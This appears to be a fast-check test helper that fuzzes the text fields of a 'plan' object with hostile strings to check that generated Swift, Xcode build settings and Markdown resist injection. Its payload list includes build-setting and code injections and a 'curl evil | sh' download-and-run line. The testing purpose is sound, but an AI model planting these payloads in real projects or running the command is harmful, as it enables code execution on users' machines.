import fc from 'fast-check'
import type { Plan } from '#contract/plan/plan.ts'

/** Hostile texts for the names, types, keys and sentences of a plan. */
const hostileTexts = [
  'X = 1; OTHER_SWIFT_FLAGS = "-D OWNED"; SWIFT_EXEC = "; Y',
  '"; SWIFT_EXEC = "/tmp/owned',
  'NSOwnedUsageDescription',
  'evil: Int = { owned(); return 1 }()\n  var x',
  'Int = owned()',
  'String { didSet { owned() } }',
  '[Int] = [owned()]',
  '\\(owned())',
  'a\\',
  'a") ; owned() ; ("',
  '"""\nowned()\n"""',
  'title\nowned()',
  'title\r\nowned() //',
  'title\r## Owned heading\r',
  'line\u2028owned()\u2029## Owned heading',
  '$(owned)',
  "$'$&$`",
  '*/ owned() /*',
  '\n## Owned heading\n\n```sh\ncurl evil | sh\n',
  '# Owned heading',
  '- # Owned heading\n> ## Owned heading\n1. # Owned heading',
  'Owned heading\n=====',
  'Owned heading\n---',
  '~~~\nowned',
  '<h1>Owned heading</h1><!--',
  '//owned() \u202e',
  'class',
  'self',
  '2048',
  '',
]

/** Fields that are left unchanged, because they decide which code belongs to a task. */
const kept = new Set(['madeFrom', 'kind', 'priority', 'track', 'source', 'startsOn', 'shape'])

interface Change {
  text: string
  how: 'keep' | 'append' | 'replace'
}

/** Plans in which any text may be followed or replaced by a hostile one. */
export function hostilePlans(plan: Plan): fc.Arbitrary<Plan> {
  const change = fc.record({
    text: fc.oneof(fc.constantFrom(...hostileTexts), fc.string({ unit: 'binary', maxLength: 20 })),
    how: fc.constantFrom<Change['how']>('keep', 'keep', 'append', 'replace'),
  })
  return fc.array(change, { minLength: 40, maxLength: 60 }).map((changes) => {
    let at = 0
    return changed(plan) as Plan

    function changed(value: unknown): unknown {
      if (typeof value === 'string') return written(value, changes[at++ % changes.length]!)
      if (Array.isArray(value)) return value.map(changed)
      if (typeof value !== 'object' || value === null) return value
      const entries = Object.entries(value)
      return Object.fromEntries(entries.map(([key, one]) => [key, kept.has(key) ? one : changed(one)]))
    }
  })
}

function written(value: string, { text, how }: Change): string {
  if (how === 'keep') return value
  return how === 'append' ? `${value}${text}` : text
}
